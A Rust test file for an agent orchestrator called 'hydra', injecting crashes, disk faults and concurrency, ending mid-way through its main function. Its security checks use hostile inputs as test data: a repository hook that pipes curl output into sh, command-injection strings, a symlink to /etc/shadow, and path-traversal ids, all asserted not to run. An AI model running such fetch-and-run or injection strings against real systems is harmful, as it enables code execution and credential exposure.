//! The reliability and security suite: faults (SIGKILL at random moments, a killed tmux server,
//! a restarted hydra-mail daemon, a full disk, concurrent processes, misbehaving agents) and
//! hostile input, on real tmux (private sockets), real git and the hydra-mail test daemon.
//!
//! A runner without the libtest harness: it runs every scenario, prints a summary table
//! (scenarios, faults injected, hostile inputs tried, records lost, orphans unreported) and
//! fails when a scenario fails or a record was lost or an orphan went unreported.
//! `HYDRA_RELIABILITY_FULL=1` (set by `.ci/run`) runs the heavier sweeps (50 SIGKILLs per
//! sweep, 1,000 operations across a daemon restart); the default is a quick pass.

use hydra_e2e::{group_alive, wait_for, Project};
use hydra_orchestrator::adapters::MailBus;
use hydra_orchestrator::{Multiplexer, Orchestrator, SessionConfig, SessionId, SessionState, Store, Worktrees};
use orch_mail::test_daemon::TestDaemon;
use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::panic::AssertUnwindSafe;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

const HYDRA: &str = env!("CARGO_BIN_EXE_hydra-under-test");

/// What one worker of the concurrency scenario did: ids it spawned, (id, reason) it killed.
type WorkerLog = (Vec<String>, Vec<(String, String)>);
/// A named scenario.
type Scenario = (&'static str, fn(&mut Rng, &mut Counts));

#[derive(Default)]
struct Counts {
    faults: u64,
    hostile: u64,
    lost: u64,
    unreported: u64,
}

struct Rng(u64);

impl Rng {
    fn new() -> Self {
        let seed = std::env::var("HYDRA_RELIABILITY_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| {
                u64::from(std::process::id()) ^ Instant::now().elapsed().as_nanos() as u64 ^ 0x9e37_79b9_7f4a_7c15
            });
        println!("reliability: seed {seed} (HYDRA_RELIABILITY_SEED to replay)");
        Rng(seed | 1)
    }
    fn below(&mut self, n: u64) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0 % n.max(1)
    }
}

fn full() -> bool {
    std::env::var_os("HYDRA_RELIABILITY_FULL").is_some()
}

fn hydra_cmd(p: &Project, args: &[&str]) -> Command {
    let mut c = p.hydra_cmd(HYDRA, args);
    c.stdout(Stdio::piped()).stderr(Stdio::piped());
    c
}

fn hydra(p: &Project, args: &[&str]) -> Output {
    hydra_cmd(p, args).output().expect("hydra runs")
}

/// Starts `hydra args` and SIGKILLs it after `delay`; then waits until the git or tmux
/// clients it had started have finished (they are in its process group), so the checks see
/// the final state rather than a race with a leftover client.
fn kill_during(p: &Project, args: &[&str], delay: Duration) {
    use std::os::unix::process::CommandExt;
    let mut child: Child = hydra_cmd(p, args).process_group(0).spawn().expect("hydra runs");
    let pgid = child.id();
    std::thread::sleep(delay);
    let _ = child.kill();
    let _ = child.wait();
    wait_for(20, "the killed hydra's child processes", || {
        (!group_alive(pgid)).then_some(())
    });
}

fn sleeper(p: &Project) -> PathBuf {
    p.agent("sleeper.sh", "cat > /dev/null; echo working; exec sleep 600")
}

/// Checks that everything on disk and in tmux belongs to a readable record or is reported as
/// an orphan; returns the number of things that are neither.
fn unreported(p: &Project, orch: &Orchestrator) -> u64 {
    let store = hydra_orchestrator::adapters::FsStore::new(&p.root);
    let report = store.load_all().expect("load");
    assert!(report.problems.is_empty(), "unreadable records: {:?}", report.problems);
    let records = report.records;
    let orphans = orch.orphans().expect("orphans");
    let mut missing = 0;
    for s in p.tmux().snapshot().expect("snapshot").sessions() {
        let owned = records.iter().any(|r| r.tmux_session == s.session);
        if s.session.starts_with("hydralph-") && !owned && !orphans.tmux_sessions.contains(&s.session) {
            println!("  unreported tmux session {}", s.session);
            missing += 1;
        }
    }
    let worktrees = hydra_orchestrator::adapters::GitWorktrees::new()
        .list(&p.root)
        .expect("worktrees");
    for w in worktrees {
        let owned = records
            .iter()
            .any(|r| r.branch_name.as_deref() == Some(w.branch.as_str()));
        let reported = orphans.worktrees.iter().any(|(b, _)| b == &w.branch);
        if !owned && !reported {
            println!("  unreported worktree/port {} {}", w.branch, w.path.display());
            missing += 1;
        }
    }
    if let Ok(entries) = std::fs::read_dir(p.root.join(".hydra/ralph")) {
        for e in entries.flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if !e.path().is_dir() {
                continue;
            }
            let owned = records.iter().any(|r| r.id.as_str() == name);
            if !owned && !orphans.runtime_dirs.iter().any(|d| d.as_str() == name) {
                println!("  unreported runtime dir {name}");
                missing += 1;
            }
        }
    }
    missing
}

fn ids(p: &Project) -> BTreeSet<String> {
    hydra_orchestrator::adapters::FsStore::new(&p.root)
        .load_all()
        .expect("load")
        .records
        .into_iter()
        .map(|r| r.id.0)
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Faults

fn spawn_killed_at_random_moments(rng: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let agent = agent.to_str().expect("utf8");
    let rounds = if full() { 50 } else { 12 };
    for i in 0..rounds {
        let before = ids(&p);
        let prd = p.prd();
        let mut args = vec!["spawn", "--agent", agent, "--prd", prd.to_str().expect("utf8")];
        if i % 2 == 1 {
            args.push("--worktree");
        }
        kill_during(&p, &args, Duration::from_micros(2_000 + rng.below(45_000)));
        c.faults += 1;
        let after = ids(&p);
        c.lost += before.difference(&after).count() as u64;
        let orch = p.orch();
        c.unreported += unreported(&p, &orch);
    }
    // A worktree that holds work and belongs to no record: prune must keep it.
    let wt = hydra_orchestrator::adapters::GitWorktrees::new();
    let info = wt
        .create(&orch_core::WorktreeRequest {
            repo: p.root.clone(),
            branch: "hydralph/0rphan01".into(),
            base: None,
            path: Some(p.root.join(".hydra/worktrees/hydralph-0rphan01")),
            session: SessionId("0rphan01".into()),
            reserved_ports: Vec::new(),
        })
        .expect("orphan worktree");
    std::fs::write(info.path.join("precious.txt"), "work\n").expect("work");
    let dry = hydra(&p, &["prune", "--dry-run", "--json"]);
    assert!(dry.status.success());
    assert!(info.path.join("precious.txt").exists());
    let out = hydra(&p, &["prune"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(
        info.path.join("precious.txt").exists(),
        "prune removed a worktree holding work"
    );
    let orch = p.orch();
    let left = orch.orphans().expect("orphans");
    assert!(
        left.tmux_sessions.is_empty() && left.runtime_dirs.is_empty(),
        "prune left orphans: {left:?}"
    );
    assert_eq!(
        left.worktrees.iter().filter(|(b, _)| b != "hydralph/0rphan01").count(),
        0,
        "{left:?}"
    );
}

fn stopped_members(pgid: u32) -> usize {
    let out = Command::new("ps")
        .args(["-A", "-o", "pid=", "-o", "pgid=", "-o", "stat="])
        .output()
        .expect("ps");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            f.len() >= 3 && f[1] == pgid.to_string() && f[2].starts_with('T')
        })
        .count()
}

fn control_commands_killed_at_random_moments(rng: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = p.agent("busy.sh", "cat > /dev/null; while true; do echo x; sleep 0.05; done");
    let orch = p.orch();
    let rounds = if full() { 15 } else { 5 };
    for _ in 0..rounds {
        // pause --now killed mid-way: no group stays frozen unless the record says so.
        let id = orch.spawn(p.config(&agent)).expect("spawn");
        let pid = wait_for(10, "pane", || p.tmux().snapshot().ok()?.get(&id.tmux_name())?.pane_pid);
        std::thread::sleep(Duration::from_millis(100));
        kill_during(
            &p,
            &["pause", id.as_str(), "--now"],
            Duration::from_micros(1_000 + rng.below(30_000)),
        );
        c.faults += 1;
        let out = hydra(&p, &["ls"]);
        assert!(out.status.success());
        let rec = orch.record(&id).expect("record readable");
        let frozen_ok = matches!(rec.state, SessionState::Paused { .. }) && rec.frozen;
        if !frozen_ok {
            assert_eq!(
                stopped_members(pid),
                0,
                "a group stayed frozen without a record saying so: {rec:?}"
            );
        }
        // kill killed mid-way: the record stays readable and agrees with tmux after a refresh.
        kill_during(
            &p,
            &["kill", id.as_str()],
            Duration::from_micros(1_000 + rng.below(30_000)),
        );
        c.faults += 1;
        let st = orch.status(&id).expect("status").state;
        let alive = p
            .tmux()
            .snapshot()
            .expect("snapshot")
            .get(&id.tmux_name())
            .is_some_and(|s| !s.dead);
        assert_eq!(
            alive,
            !st.is_terminal(),
            "state {st:?} contradicts tmux (alive: {alive})"
        );
        if !st.is_terminal() {
            let _ = orch.resume(&id);
            orch.kill(&id, "cleanup").expect("kill");
        }
        wait_for(10, "group gone", || (!group_alive(pid)).then_some(()));
        // A checkpoint pause (a store write) killed mid-way: the record always parses.
        let id2 = orch.spawn(p.config(&agent)).expect("spawn");
        kill_during(&p, &["pause", id2.as_str()], Duration::from_micros(rng.below(20_000)));
        c.faults += 1;
        assert!(orch.record(&id2).is_ok(), "record unreadable after a killed write");
        orch.kill(&id2, "cleanup").expect("kill");
    }
    c.unreported += unreported(&p, &orch);
}

fn tmux_server_killed_with_ten_sessions(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let orch = p.orch();
    let ids: Vec<_> = (0..10).map(|_| orch.spawn(p.config(&agent)).expect("spawn")).collect();
    p.tmux().kill_server().expect("kill server");
    c.faults += 1;
    let out = hydra(&p, &["ls", "--all", "--json"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let list: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).expect("json");
    assert_eq!(list.len(), 10, "a session was forgotten");
    for s in &list {
        assert_eq!(s["state"], "failed");
        assert_eq!(s["reason"], "tmux session ended unexpectedly");
    }
    c.lost += ids.iter().filter(|id| orch.record(id).is_err()).count() as u64;
    let id = orch.spawn(p.config(&agent)).expect("a new server spawns normally");
    assert!(matches!(
        orch.status(&id).expect("status").state,
        SessionState::Starting | SessionState::Running { .. }
    ));
}

/// The real hydra-mail bus, timing each call the orchestrator makes to it: the time an
/// operation spends because of the daemon is exactly the time spent in these calls.
struct TimedBus {
    inner: MailBus,
    slowest: std::sync::Mutex<Duration>,
}

impl TimedBus {
    fn slowest(&self) -> Duration {
        *self.slowest.lock().expect("lock")
    }
}

impl hydra_orchestrator::EventBus for TimedBus {
    fn publish(&self, event: &hydra_orchestrator::LifecycleEvent) -> Result<(), orch_core::BusError> {
        let t = Instant::now();
        let r = self.inner.publish(event);
        let took = t.elapsed();
        let mut s = self.slowest.lock().expect("lock");
        *s = (*s).max(took);
        r
    }
    fn flush(&self, timeout: Duration) -> Result<(), orch_core::BusError> {
        self.inner.flush(timeout)
    }
    fn subscribe(&self, channels: &[&str]) -> Result<Box<dyn orch_core::Subscription>, orch_core::BusError> {
        self.inner.subscribe(channels)
    }
}

fn mail_daemon_restarted_during_operations(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let sock = p.dir.path().join("mail.sock");
    let daemon = TestDaemon::start(&sock).expect("daemon");
    let agent = sleeper(&p);
    let bus = Arc::new(TimedBus {
        inner: MailBus::new(&sock),
        slowest: std::sync::Mutex::new(Duration::ZERO),
    });
    let orch = hydra_orchestrator::Builder::from_env()
        .project(&p.root)
        .tmux_socket(p.socket.clone())
        .bus(bus.clone())
        .build()
        .expect("orchestrator");
    let id = orch.spawn(p.config(&agent)).expect("spawn");
    let ops = if full() { 1000 } else { 300 };
    let mut daemon = Some(daemon);
    let (mut slowest_down, mut slowest_up) = (Duration::ZERO, Duration::ZERO);
    for i in 0..ops {
        if i == ops / 3 {
            if let Some(mut d) = daemon.take() {
                d.stop();
            }
            c.faults += 1;
        }
        if i == 2 * ops / 3 {
            daemon = Some(TestDaemon::start(&sock).expect("restart"));
        }
        let t = Instant::now();
        match i % 3 {
            0 => orch.inject(&id, &format!("message {i}")).expect("inject"),
            1 => orch.pause(&id).expect("pause"),
            _ => orch.resume(&id).expect("resume"),
        }
        let took = t.elapsed();
        if daemon.is_none() {
            slowest_down = slowest_down.max(took);
        } else {
            slowest_up = slowest_up.max(took);
        }
    }
    orch.flush_events(Duration::from_secs(10))
        .expect("events after the restart delivered");
    let d = daemon.expect("daemon up");
    assert!(
        !d.history("session:injected").is_empty(),
        "no event arrived after the restart"
    );
    println!(
        "  {ops} operations; slowest with the daemon down {:.1} ms, with it up {:.1} ms; slowest call to the bus {:.3} ms",
        slowest_down.as_secs_f64() * 1000.0,
        slowest_up.as_secs_f64() * 1000.0,
        bus.slowest().as_secs_f64() * 1000.0
    );
    // "Because of the daemon": the time an operation spends waiting on it is the time spent in
    // the bus (a blocking connect or reply wait would take a second). Whole operations also
    // fsync files, whose latency depends on the disk, not on the daemon.
    assert!(
        bus.slowest() < Duration::from_millis(50),
        "a publish blocked {:?}",
        bus.slowest()
    );
}

/// A mount over a test directory, unmounted when dropped (even when an assertion fails).
struct Mounted(PathBuf);

impl Drop for Mounted {
    fn drop(&mut self) {
        let _ = Command::new("umount").arg(&self.0).status();
    }
}

fn disk_full_and_read_only(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let orch = p.orch();
    let id = orch.spawn(p.config(&agent)).expect("spawn");
    let sessions = p.root.join(".hydra/orchestrator/sessions");
    let before = std::fs::read(sessions.join(format!("{id}.json"))).expect("record");
    // A full disk: a tiny tmpfs over the sessions directory, filled up.
    let tmpfs = Command::new("mount")
        .args(["-t", "tmpfs", "-o", "size=64k,mode=0700", "tmpfs"])
        .arg(&sessions)
        .status()
        .is_ok_and(|s| s.success())
        .then(|| Mounted(sessions.clone()));
    if let Some(tmpfs) = tmpfs {
        std::fs::write(sessions.join(format!("{id}.json")), &before).expect("record on tmpfs");
        let _ = std::fs::write(sessions.join("filler"), vec![0u8; 128 * 1024]);
        let err = orch.pause(&id).expect_err("no space left");
        c.faults += 1;
        let msg = err.to_string();
        let chain = format!("{:?}", err);
        assert!(
            msg.contains("failed to") && (chain.contains("StorageFull") || chain.contains("No space")),
            "{msg} / {chain}"
        );
        assert_eq!(
            std::fs::read(sessions.join(format!("{id}.json"))).expect("intact"),
            before,
            "the previous record changed"
        );
        let _ = std::fs::remove_file(sessions.join("filler"));
        drop(tmpfs);
    } else {
        println!("  tmpfs cannot be mounted here; the full disk is simulated with a failing store only");
    }
    // Read-only: a read-only bind mount (root ignores directory permissions), else chmod.
    let bind = Command::new("mount")
        .arg("--bind")
        .arg(&sessions)
        .arg(&sessions)
        .status()
        .is_ok_and(|s| s.success())
        .then(|| Mounted(sessions.clone()));
    let read_only = bind.is_some()
        && Command::new("mount")
            .args(["-o", "remount,ro,bind"])
            .arg(&sessions)
            .status()
            .is_ok_and(|s| s.success());
    if read_only {
        let err = orch.pause(&id).expect_err("read-only file system");
        c.faults += 1;
        assert!(
            matches!(err, hydra_orchestrator::Error::ReadOnly { .. }) && err.to_string().contains("read-only"),
            "{err:?}"
        );
        assert!(
            !orch.runtime_layout(&id).pause_marker().exists(),
            "the refused pause left no marker behind"
        );
        assert_eq!(
            std::fs::read(sessions.join(format!("{id}.json"))).expect("intact"),
            before
        );
        drop(bind);
    } else if rustix::process::geteuid().as_raw() != 0 {
        std::fs::set_permissions(&sessions, std::fs::Permissions::from_mode(0o500)).expect("chmod");
        let err = orch.pause(&id).expect_err("read-only");
        c.faults += 1;
        assert!(err.to_string().contains("failed to"), "{err}");
        std::fs::set_permissions(&sessions, std::fs::Permissions::from_mode(0o700)).expect("chmod");
    }
    // The failing writer of the fake store.
    let store = Arc::new(orch_core::testing::MemoryStore::new());
    let fake = hydra_orchestrator::Builder::from_env()
        .project(&p.root)
        .multiplexer(Arc::new(orch_core::testing::FakeMultiplexer::new()))
        .store(store.clone())
        .host(Arc::new(hydra_orchestrator::adapters::PosixHost::new(
            std::env::var_os("PATH"),
            None,
        )))
        .build()
        .expect("fake");
    let fid = fake.spawn(p.config(&agent)).expect("spawn");
    store.fail_writes(true);
    let err = fake.pause(&fid).expect_err("failing writer");
    c.faults += 1;
    assert!(err.to_string().contains("failed to write"), "{err}");
    store.fail_writes(false);
    assert_eq!(fake.record(&fid).expect("record").state, SessionState::Starting);
    c.lost += u64::from(orch.record(&id).is_err());
}

fn four_processes_of_mixed_operations(rng: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let agent = agent.to_str().expect("utf8").to_owned();
    let per = if full() { 50 } else { 20 };
    // Each worker is a shell-free loop of hydra invocations driven from a thread here.
    let seeds: Vec<u64> = (0..4).map(|_| rng.below(u64::MAX)).collect();
    let results: Vec<WorkerLog> = std::thread::scope(|s| {
        let handles: Vec<_> = seeds
            .into_iter()
            .map(|seed| {
                let p = &p;
                let agent = agent.clone();
                s.spawn(move || {
                    let mut r = Rng(seed | 1);
                    let mut spawned = Vec::new();
                    let mut killed = Vec::new();
                    for _ in 0..per {
                        let known: Vec<String> = ids(p).into_iter().collect();
                        let idx = r.below(1 << 20) as usize;
                        let pick = || known.get(idx % known.len().max(1)).cloned();
                        match r.below(6) {
                            0 => {
                                let wt = r.below(2) == 0;
                                let prd = p.prd();
                                let mut args =
                                    vec!["spawn", "--agent", agent.as_str(), "--prd", prd.to_str().expect("utf8")];
                                if wt {
                                    args.push("--worktree");
                                }
                                let out = hydra(p, &args);
                                let err = String::from_utf8_lossy(&out.stderr);
                                // Another worker may kill a session while it is starting (its
                                // record is booked first); the spawn then says so.
                                assert!(
                                    out.status.success()
                                        || err.contains("was ended by another command while it was starting"),
                                    "spawn: {err}"
                                );
                                if out.status.success() {
                                    spawned.push(String::from_utf8_lossy(&out.stdout).trim().to_owned());
                                }
                            }
                            1 => {
                                if let Some(id) = pick() {
                                    let _ = hydra(p, &["pause", &id]);
                                }
                            }
                            2 => {
                                if let Some(id) = pick() {
                                    let _ = hydra(p, &["resume", &id]);
                                }
                            }
                            3 => {
                                if let Some(id) = pick() {
                                    let _ = hydra(p, &["inject", &id, "keep going"]);
                                }
                            }
                            4 => {
                                if let Some(id) = pick() {
                                    let reason = format!("killed by worker {seed}");
                                    if hydra(p, &["kill", &id, "--reason", &reason]).status.success() {
                                        killed.push((id, reason));
                                    }
                                }
                            }
                            _ => {
                                let out = hydra(p, &["ls", "--json"]);
                                assert!(out.status.success(), "ls: {}", String::from_utf8_lossy(&out.stderr));
                            }
                        }
                        r.below(7);
                    }
                    (spawned, killed)
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().expect("worker")).collect()
    });
    let orch = p.orch();
    let statuses = orch.refresh().expect("final reconcile");
    let snapshot = p.tmux().snapshot().expect("snapshot");
    for (spawned, killed) in &results {
        for id in spawned {
            if !statuses.iter().any(|s| s.id.as_str() == id) {
                c.lost += 1;
            }
        }
        for (id, reason) in killed {
            let st = statuses
                .iter()
                .find(|s| s.id.as_str() == id)
                .expect("killed session listed");
            assert_eq!(
                st.state,
                SessionState::Failed { reason: reason.clone() },
                "a kill was lost for {id}"
            );
        }
    }
    let mut ports = BTreeSet::new();
    for r in hydra_orchestrator::adapters::FsStore::new(&p.root)
        .load_all()
        .expect("load")
        .records
    {
        if let Some(port) = r.allocated_port {
            assert!(ports.insert(port), "port {port} handed out twice");
        }
        let alive = snapshot.get(&r.tmux_session).is_some_and(|s| !s.dead);
        assert_eq!(
            alive,
            !r.state.is_terminal(),
            "{} is {} but tmux says alive={alive}",
            r.id,
            r.state
        );
    }
    c.unreported += unreported(&p, &orch);
}

fn misbehaving_agents(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let orch = p.orch();
    let crash = p.agent("crash.sh", "cat > /dev/null; echo failing; exit 7");
    let flood = p.agent(
        "flood.sh",
        "cat > /dev/null; head -c 52428800 /dev/zero | tr '\\0' 'x'; echo; echo '<promise>COMPLETE</promise>'",
    );
    let inline = p.agent(
        "inline.sh",
        "cat > /dev/null; echo 'all done: xx<promise>COMPLETE</promise>yy'",
    );
    let early = p.agent(
        "early.sh",
        "echo 'left before reading'; echo '<promise>COMPLETE</promise>'",
    );
    let hang = p.agent("hang.sh", "cat > /dev/null; exec sleep 600");
    let a = orch
        .spawn(SessionConfig {
            max_iterations: 3,
            ..p.config(&crash)
        })
        .expect("crash");
    let b = orch.spawn(p.config(&flood)).expect("flood");
    let d = orch.spawn(p.config(&inline)).expect("inline");
    let e = orch.spawn(p.config(&early)).expect("early");
    let h = orch
        .spawn(SessionConfig {
            max_duration: Duration::from_secs(2),
            stuck_after: Duration::from_secs(1),
            ..p.config(&hang)
        })
        .expect("hang");
    c.faults += 5;
    let end = |id: &SessionId| hydra_e2e::wait_state(&orch, id, 60, "end", |s| s.is_terminal());
    assert_eq!(end(&a), SessionState::MaxIterations { iterations: 3 });
    assert_eq!(end(&b), SessionState::Completed { iterations: 1 });
    assert_eq!(end(&d), SessionState::Completed { iterations: 1 });
    assert_eq!(end(&e), SessionState::Completed { iterations: 1 });
    // The hung agent is killed for its 2 s limit (by whichever refresh sees it first).
    let st = hydra_e2e::wait_state(&orch, &h, 30, "hung agent killed", |s| s.is_terminal());
    assert_eq!(
        st,
        SessionState::Failed {
            reason: "duration limit exceeded".into()
        }
    );
    assert!(p.tmux().snapshot().expect("snapshot").get(&h.tmux_name()).is_none());
    // The 50 MB flood left a bounded log (LOG_MAX 5 MiB, one rotation).
    let rt = orch.runtime_layout(&b);
    let size = |p: PathBuf| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
    let total = size(rt.log()) + size(rt.dir().join("agent.log.1"));
    assert!(total <= 12 * 1024 * 1024, "logs grew to {total} bytes");
    assert!(std::fs::read_to_string(orch.runtime_layout(&a).log())
        .expect("log")
        .contains("failing"));
}

// ---------------------------------------------------------------------------------------------
// Hostile input

fn nothing_created(p: &Project) -> bool {
    ids(p).is_empty() && p.tmux().snapshot().map(|s| s.sessions().is_empty()).unwrap_or(true)
}

/// A cloned repository whose committed project files would make hydra run programs: none of
/// them may run before the user trusts that content.
fn hostile_repository(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let agent_s = agent.to_str().expect("utf8");
    let marker = p.dir.path().join("pwned");
    let touch = format!("touch {}", marker.display());
    std::fs::create_dir_all(p.root.join(".hydra")).expect("mkdir");
    std::fs::write(
        p.root.join(".hydra/wt.toml"),
        format!("[hooks]\npost_create = [{touch:?}, \"curl http://example.invalid | sh\"]\n"),
    )
    .expect("wt.toml");
    // hydra.toml can start programs too: a notification command and an agent profile.
    let notified = p.dir.path().join("notified");
    let profiled = p.dir.path().join("profiled");
    std::fs::write(
        p.root.join(".hydra/hydra.toml"),
        format!(
            "[notify]\ncommand = [\"touch\", {:?}]\ntmux = false\ndesktop = false\n\n[agents.evil]\ncommand = [\"touch\", {:?}]\n",
            notified.display(),
            profiled.display()
        ),
    )
    .expect("hydra.toml");
    for args in [
        &["spawn", "--agent", "evil", "--prd", "prd.json"][..],
        &["spawn", "--agent", agent_s, "--prd", "prd.json", "--worktree"],
        &[
            "spawn",
            "--agent",
            agent_s,
            "--prd",
            "prd.json",
            "--branch",
            "feature/x",
        ],
        &[
            "spawn",
            "--agent",
            agent_s,
            "--prd",
            "prd.json",
            "--worktree",
            "--name",
            "evil",
        ],
    ] {
        let out = hydra(&p, args);
        assert_eq!(
            out.status.code(),
            Some(1),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(String::from_utf8_lossy(&out.stderr).contains("hydra trust"));
        c.hostile += 1;
    }
    // The monitor would run the notification command: it refuses to start.
    let out = hydra(&p, &["monitor"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("hydra trust"));
    c.hostile += 1;
    for args in [&["ls"][..], &["prune"], &["monitor", "--once"], &["trust"], &["config"]] {
        hydra(&p, args);
        c.hostile += 1;
    }
    assert!(!marker.exists(), "a committed hook ran without trust");
    assert!(!notified.exists(), "a committed notification command ran without trust");
    assert!(!profiled.exists(), "a committed agent profile ran without trust");
    let orch = p.orch();
    c.lost += u64::from(!orch.try_list().expect("list").is_empty());
    c.unreported += unreported(&p, &orch);
}

fn hostile_input(_: &mut Rng, c: &mut Counts) {
    let p = Project::new();
    let agent = sleeper(&p);
    let agent_s = agent.to_str().expect("utf8");
    let long = "a".repeat(10 * 1024);
    for id in ["../x", "a/b", "", &long, "ünï", "-rf", "A", "..", "x y"] {
        let out = hydra(&p, &["status", id]);
        assert_eq!(out.status.code(), Some(2), "id {id:?} accepted");
        let out = hydra(&p, &["inject", "--", id, "hi"]);
        assert_ne!(out.status.code(), Some(0), "inject to {id:?} accepted");
        c.hostile += 2;
    }
    let orch = p.orch();
    assert!(matches!(
        orch.inject(&SessionId("a\0b".into()), "x"),
        Err(hydra_orchestrator::Error::Id(_))
    ));
    c.hostile += 1;
    for branch in ["a..b", "-x", "a b", "~", "hydralph/../x", "x.lock", "a:b"] {
        let flag = format!("--branch={branch}");
        let out = hydra(&p, &["spawn", "--agent", agent_s, "--prd", "prd.json", &flag]);
        assert_eq!(
            out.status.code(),
            Some(1),
            "branch {branch:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        c.hostile += 1;
    }
    let outside = tempfile::tempdir().expect("outside");
    let out = hydra(
        &p,
        &[
            "spawn",
            "--agent",
            agent_s,
            "--prd",
            "prd.json",
            "--dir",
            outside.path().to_str().expect("utf8"),
        ],
    );
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("working_dir"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    c.hostile += 1;
    let dir = p.dir.path();
    std::fs::write(dir.join("notjson.json"), "{ nope").expect("w");
    std::fs::write(dir.join("schema.json"), r#"{"userStories":[{"title":5}]}"#).expect("w");
    let huge = std::fs::File::create(dir.join("huge.json")).expect("huge");
    huge.set_len(100 * 1024 * 1024).expect("sparse 100 MB");
    std::os::unix::fs::symlink("/etc/shadow", dir.join("shadow.json")).expect("symlink");
    for prd in [
        "notjson.json",
        "schema.json",
        "huge.json",
        "shadow.json",
        "missing.json",
    ] {
        let path = dir.join(prd);
        let out = hydra(
            &p,
            &["spawn", "--agent", agent_s, "--prd", path.to_str().expect("utf8")],
        );
        assert_eq!(out.status.code(), Some(1), "prd {prd} accepted");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("prd_path"),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        c.hostile += 1;
    }
    for d in ["-1h", "1h30", "99999999h", "1.5h", "h"] {
        let out = hydra(
            &p,
            &["spawn", "--agent", agent_s, "--prd", "prd.json", "--max-duration", d],
        );
        assert_ne!(out.status.code(), Some(0), "duration {d:?} accepted");
        c.hostile += 1;
    }
    let big_flags = "x ".repeat(50 * 1024); // 100 KB: over the 64 KiB limit, under exec's 128 KiB per argument
    let out = hydra(
        &p,
        &["spawn", "--agent", agent_s, "--prd", "prd.json", "--flags", &big_flags],
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("agent_flags"));
    c.hostile += 1;
    assert!(nothing_created(&p), "a refused input created something");

    // Carried literally: flags and messages with shell and tmux syntax, and 1 MB of text.
    let echo = p.agent(
        "echo.sh",
        "printf '%s\\n' \"$@\" > args.txt; cat > stdin.txt; exec sleep 600",
    );
    let flags = "'q' \"d\" $(touch pwned1) `touch pwned2` ; touch pwned3 C-c Enter \u{1b}[31m";
    // An interactive profile (it reads its pane), so a live message is typed, not queued.
    let mut profile = hydra_orchestrator::AgentProfile::program(echo.to_str().expect("utf8"));
    profile.interactive = true;
    let id = orch
        .spawn(SessionConfig {
            agent_flags: flags.into(),
            agent_profile: Some(profile),
            ..p.config(&echo)
        })
        .expect("spawn");
    let args = wait_for(20, "agent ran", || {
        std::fs::read_to_string(p.root.join("args.txt")).ok()
    });
    assert_eq!(
        args.lines().collect::<Vec<_>>(),
        flags.split_whitespace().collect::<Vec<_>>()
    );
    let message = format!(
        "'q' \"d\" $(touch pwned4) `touch pwned5`; C-c\nEnter \u{1b}[2J{}",
        "m".repeat(1024 * 1024)
    );
    orch.inject(&id, &message).expect("1 MB message");
    let queued: Vec<_> = std::fs::read_dir(orch.runtime_layout(&id).inbox())
        .expect("inbox")
        .flatten()
        .collect();
    assert_eq!(std::fs::read_to_string(queued[0].path()).expect("queued"), message);
    assert_eq!(
        orch.inject_with(&id, "$(touch pwned6) C-c Enter", hydra_orchestrator::InjectMode::Live)
            .expect("live"),
        hydra_orchestrator::Delivery::Typed
    );
    // The pane echoes what it was typed: once the text shows, it has been delivered.
    wait_for(10, "live text in the pane", || {
        p.tmux()
            .capture(&id.tmux_name(), 50)
            .ok()
            .filter(|t| t.contains("$(touch pwned6) C-c Enter"))
            .map(|_| ())
    });
    c.hostile += 3;
    for n in 1..=6 {
        assert!(
            !p.root.join(format!("pwned{n}")).exists(),
            "pwned{n}: input was executed"
        );
    }
    // Permissions: nothing the orchestrator creates is readable or writable by others.
    let mut checked = 0;
    let mut stack = vec![p.root.join(".hydra")];
    while let Some(path) = stack.pop() {
        let meta = std::fs::symlink_metadata(&path).expect("meta");
        if path.starts_with(p.root.join(".hydra/worktrees")) && path != p.root.join(".hydra/worktrees") {
            continue; // checkouts hold the user's files, with the user's modes
        }
        let mode = meta.permissions().mode() & 0o777;
        assert_eq!(mode & 0o002, 0, "{} is world-writable", path.display());
        if meta.is_dir() {
            assert_eq!(mode, 0o700, "{} is {:o}", path.display(), mode);
            stack.extend(std::fs::read_dir(&path).expect("dir").flatten().map(|e| e.path()));
        } else if meta.is_file() {
            assert_eq!(mode & 0o077, 0, "{} is {:o}", path.display(), mode);
        }
        checked += 1;
    }
    assert!(checked > 10);
    // One session's runtime dir is not reachable through another id.
    let other = orch.spawn(p.config(&agent)).expect("other");
    let sneaky = SessionId(format!("{other}/../{id}"));
    assert!(orch.inject(&sneaky, "x").is_err());
    c.hostile += 1;
}

fn main() {
    let mut rng = Rng::new();
    let scenarios: Vec<Scenario> = vec![
        (
            "SIGKILL during spawn (with/without worktree), then prune",
            spawn_killed_at_random_moments,
        ),
